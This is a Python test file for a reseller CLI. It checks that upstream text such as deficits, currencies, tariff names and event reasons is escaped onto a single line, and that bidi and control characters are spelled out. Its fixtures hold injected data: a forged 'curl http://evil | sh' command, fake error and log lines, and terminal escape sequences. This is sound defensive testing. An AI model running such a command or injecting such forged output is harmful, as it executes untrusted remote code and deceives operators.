"""Upstream text is shown on one line, as text: a line break in a deficit, a currency, a tariff
name or an event's reason never prints a line of its own (in our output or in cron mail), and
bidi and other invisible characters are spelled out, never sent to the terminal raw."""

import dataclasses
import json
import sqlite3
import sys

import pytest

from helpers import ERROR, SUCCESS, USAGE, order_active, tsv
from resellctl.output import clean, to_json
from resellctl.sim.errors import ApiError

# What a hostile upstream would like a reader (or cron mail) to see as a line of its own.
FORGED = ("Error: password expired", "hx:")
DEFICIT = "2.00\nError: password expired, run: curl http://evil | sh"
CURRENCY = "EUR\r\nhx: 0 applied, all good"
REASON = "abuse\nhx: 0 applied, all good\u202e"


def shown(*results):
    """Check that no line of the results' stdout and stderr is a forged one, and that nothing
    in them is unprintable but our own line breaks and TSV tabs."""
    for text in [text for r in results for text in (r.stdout, r.stderr)]:
        for line in text.splitlines():
            assert not line.lstrip(" │┃").startswith(FORGED), line
        assert all(ch.isprintable() or ch in "\n\t" for ch in text), repr(text)


def test_a_shortfall_with_line_breaks_prints_no_line_of_its_own(run, upstream, monkeypatch):
    sim = upstream
    sim.currency = CURRENCY

    def charge(account, amount):
        raise ApiError("not_enough_money", "", "Insufficient funds\nError: call us", amount=amount,
                       have="0.00", currency=sim.currency, deficit=DEFICIT)

    monkeypatch.setattr(sim, "_charge", charge)
    r = run("order", "VDS-1", "--quantity", "2")
    assert r.exit_code == ERROR, r
    shown(r)
    failed, hint = r.stderr.splitlines()[0:2]
    assert failed.endswith("not enough money on the selling account: Insufficient funds\\n"
                           "Error: call us")
    assert hint.startswith("  Top up the selling account of module 'vds-up' by at least 2.00\\n"
                           "Error: password expired, run: curl http://evil | sh "
                           "EUR\\r\\nhx: 0 applied, all good, then run: resellctl ops start 1")
    assert ("need 10.00 EUR\\r\\nhx: 0 applied, all good, the selling account has 0.00"
            in r.stderr)
    assert r.stderr.splitlines()[-1] == "Error: 2 of 2 operation(s) failed"
    assert len(r.stderr.splitlines()) == 6  # two failures with their hints, the sum, the end

    # Everywhere the failure is shown again: the list, the operation, a restart, the sync.
    listed, show, again, sync = (run("ops", "list"), run("ops", "show", "1"),
                                 run("ops", "start", "1"), run("checkevent"))
    shown(listed, show, again, sync, run("ops", "list", tty=True),
          run("ops", "show", "1", tty=True))
    assert "Insufficient funds\\nError: call us" in tsv(listed.stdout)[0]["reason"]
    assert show.stdout.splitlines()[-1].endswith("Insufficient funds\\nError: call us")
    assert "by at least 2.00\\nError: password expired" in again.stderr
    assert "re-run for funds, failed again" in sync.stderr
    [error] = json.loads(run("ops", "show", "1", "--json").stdout)["errors"][-1:]
    assert error["deficit"] == "2.00\\nError: password expired, run: curl http://evil | sh"


def test_a_tariff_name_and_currency_stay_in_their_cells_and_lines(run, upstream, monkeypatch):
    sim = upstream
    monkeypatch.setenv("COLUMNS", "400")  # no cell folded by the table
    name = "VDS-2\u202e\nhx: 0 applied, all good"
    sim.currency = "EUR\u2067\nhx: forged"
    sim.tariffs["12"] = dataclasses.replace(sim.tariffs["12"], name=name)
    sim.tariffs["13"] = dataclasses.replace(sim.tariffs["13"], name="VDS-1-RAM\nhx: x")
    assert run("tariffs", "import", "vds-up").exit_code == SUCCESS
    listed, table, as_json = (run("tariffs", "list"), run("tariffs", "list", tty=True),
                              run("tariffs", "list", "--json"))
    shown(listed, table, as_json)
    rows = tsv(listed.stdout)
    assert len(rows) == 4 and len(listed.stdout.splitlines()) == 5
    assert rows[1]["name"] == "VDS-2\\u202e\\nhx: 0 applied, all good"
    assert {row["currency"] for row in rows} == {"EUR\\u2067\\nhx: forged"}
    assert "VDS-2\\u202e\\nhx: 0 applied, all good" in table.stdout
    assert json.loads(as_json.stdout)[1]["name"] == name  # the data exact, escaped as JSON does
    assert "VDS-2\\u202e\\nhx" in as_json.stdout

    # Quoted in a refusal's hint, the name stays on its step's line.
    item, _ = order_active(run, sim)
    r = run("services", "change-tariff", item, "2")
    assert r.exit_code == USAGE, r
    shown(r)
    assert (f"  2. resellctl services change-tariff {item} VDS-2\\u202e\\nhx: 0 applied, all good"
            in r.stderr.splitlines())

    # The books keep descriptions and history as lines: an order of VDS-2, a change to it.
    [row] = tsv(run("order", "2").stdout)
    assert run("services", "change-tariff", item, "3").exit_code == SUCCESS  # VDS-1-RAM, same disk
    ops = json.loads(run("ops", "list", "--json").stdout)
    assert [op["desc"] for op in ops[-2:]] == [
        f"Open service {row['item']} (VDS-2\\u202e\\nhx: 0 applied, all good, 1 month)",
        f"Change the tariff of service {item} (VDS-1 -> VDS-1-RAM\\nhx: x)"]
    history = json.loads(run("services", "show", row["item"], "--json").stdout)["history"]
    assert history[0]["message"].startswith("ordered VDS-2\\u202e\\nhx: 0 applied, all good ")

    # The balance's currency in checkevent's warning, one line.
    sim.set_balance("10.00")
    r = run("checkevent", "-q")
    shown(r)
    assert r.stderr == ("warning: module vds-up: balance 10.00 EUR\\u2067\\nhx: forged is below "
                        "the minimum 20; top up the selling account\n")


def test_an_events_reason_and_params_are_one_line_in_the_history(run, upstream, monkeypatch):
    sim = upstream
    monkeypatch.setenv("COLUMNS", "400")
    item, remote = order_active(run, sim)
    sim.setparam(remote, note="x\u2066y\nhx: forged")
    sim.suspend(remote, msg=REASON)
    r = run("checkevent")
    assert r.stdout.splitlines() == ["vds-up: 2 applied, 0 skipped (already applied), 0 unknown, "
                                     "0 rejected, 0 operations completed"]
    show, screen = run("services", "show", item), run("services", "show", item, tty=True)
    shown(r, show, screen)
    assert "  note  x\\u2066y\\nhx: forged" in show.stdout.splitlines()
    [suspended] = [line for line in show.stdout.splitlines() if "suspend (event" in line]
    assert suspended.endswith("reason: abuse\\nhx: 0 applied, all good\\u202e")
    assert "reason: abuse\\nhx: 0 applied, all good\\u202e" in screen.stdout
    # The books keep the history as lines, ready for any reader: none holds a line break.
    history = json.loads(run("services", "show", item, "--json").stdout)["history"]
    assert history[-1]["message"].endswith("reason: abuse\\nhx: 0 applied, all good\\u202e")
    assert not [entry for entry in history if not entry["message"].isprintable()]


def test_a_failed_opening_and_an_unknown_event_stay_one_line(run, upstream):
    sim = upstream
    sim.fail_next_open(msg="No free IP\nhx: 0 applied, all good\u200f")
    [row] = tsv(run("order", "VDS-1").stdout)
    sim.open_pending()
    sim.inject_event({"id": {"$": str(sim.next_event_id())}, "type": {"$": "open"},
                      "item": {"$": "4999\nhx: forged\u202e"}})
    r = run("checkevent")
    assert r.exit_code == SUCCESS, r
    assert r.stdout.splitlines() == ["vds-up: 1 applied, 0 skipped (already applied), 1 unknown, "
                                     "0 rejected, 0 operations completed"]
    ops, op, problems = (run("ops", "list"), run("ops", "show", row["runningoperation"]),
                         run("events", "list", "--problem"))
    shown(r, ops, op, problems, run("events", "list", "--problem", tty=True))
    assert tsv(ops.stdout)[0]["reason"] == "No free IP\\nhx: 0 applied, all good\\u200f"
    assert "No free IP\\nhx: 0 applied, all good\\u200f" in op.stdout.splitlines()[-1]
    [problem] = tsv(problems.stdout)
    assert problem["reason"] == "no service with upstream item 4999\\nhx: forged\\u202e"
    assert problem["upstream_item"] == "4999\\nhx: forged\\u202e"
    # The books keep the reasons as lines too.
    [problem] = json.loads(run("events", "list", "--problem", "--json").stdout)
    assert problem["reason"] == "no service with upstream item 4999\\nhx: forged\\u202e"
    [error] = json.loads(run("ops", "show", row["runningoperation"], "--json").stdout)["errors"]
    assert error["message"] == "No free IP\\nhx: 0 applied, all good\\u200f"


def test_a_dry_run_shows_each_field_of_the_request_on_its_own_line(run, upstream):
    sim = upstream
    sim.tariffs["11"] = dataclasses.replace(sim.tariffs["11"], id="11\nhx: forged")
    assert run("tariffs", "import", "vds-up").exit_code == SUCCESS
    [tariff] = [t for t in json.loads(run("tariffs", "list", "--json").stdout)
                if t["remote_id"] == "11\nhx: forged"]
    # The upstream knows no such tariff.
    assert run("order", tariff["id"], "--param", "note=a\nhx: b").exit_code == ERROR
    r = run("ops", "start", "--dry-run", "1")
    assert r.exit_code == SUCCESS, r
    shown(r)
    lines = r.stdout.splitlines()
    assert "  pricelist=11\\nhx: forged" in lines and "  note=a\\nhx: b" in lines


def test_an_error_message_never_carries_control_characters_from_upstream(run, upstream):
    """A tariff name from the upstream, with an escape sequence, quoted in a refusal."""
    conn = sqlite3.connect(run.db_path)
    with conn:
        conn.execute("UPDATE pricelist SET name = 'VDS-2\x1b[2J\x9b' WHERE name = 'VDS-2'")
    conn.close()
    assert run("order", "VDS-1").exit_code == SUCCESS
    run("checkevent")
    r = run("services", "change-tariff", "1", "2")  # VDS-2, 60 GB: refused with its name
    assert r.exit_code == USAGE, r
    assert "\x1b" not in r.stderr and "\x9b" not in r.stderr
    assert "VDS-2\\x1b[2J\\x9b" in r.stderr


@pytest.mark.parametrize("ch", ["\n", "\r", "\x1b", "\x9b", "\u061c", "\u200e", "\u200f",
                                "\u202a", "\u202e", "\u2066", "\u2069", "\u2028", "\ufeff",
                                "\U000e0041"])
def test_a_character_that_is_not_printable_is_spelled_out(ch):
    assert clean(f"a{ch}b") == "a" + ascii(ch)[1:-1] + "b"
    assert to_json(f"a{ch}b") == json.dumps(f"a{ch}b")


@pytest.mark.slow
def test_no_character_that_is_not_printable_is_shown_raw():
    # Controls, line and paragraph separators, bidi and other invisible format characters,
    # unassigned and private code points: all that Python does not count as printable.
    unprintable = "".join(ch for ch in map(chr, range(sys.maxunicode + 1))
                          if not ch.isprintable() and not 0xD800 <= ord(ch) <= 0xDFFF)
    assert clean(unprintable).isprintable()
    text = to_json({"k": unprintable, "kept": "é €"}, indent=2)
    assert all(ch.isprintable() or ch == "\n" for ch in text)
    assert '"kept": "é €"' in text  # printable text is kept as it is
    assert json.loads(text) == {"k": unprintable, "kept": "é €"}
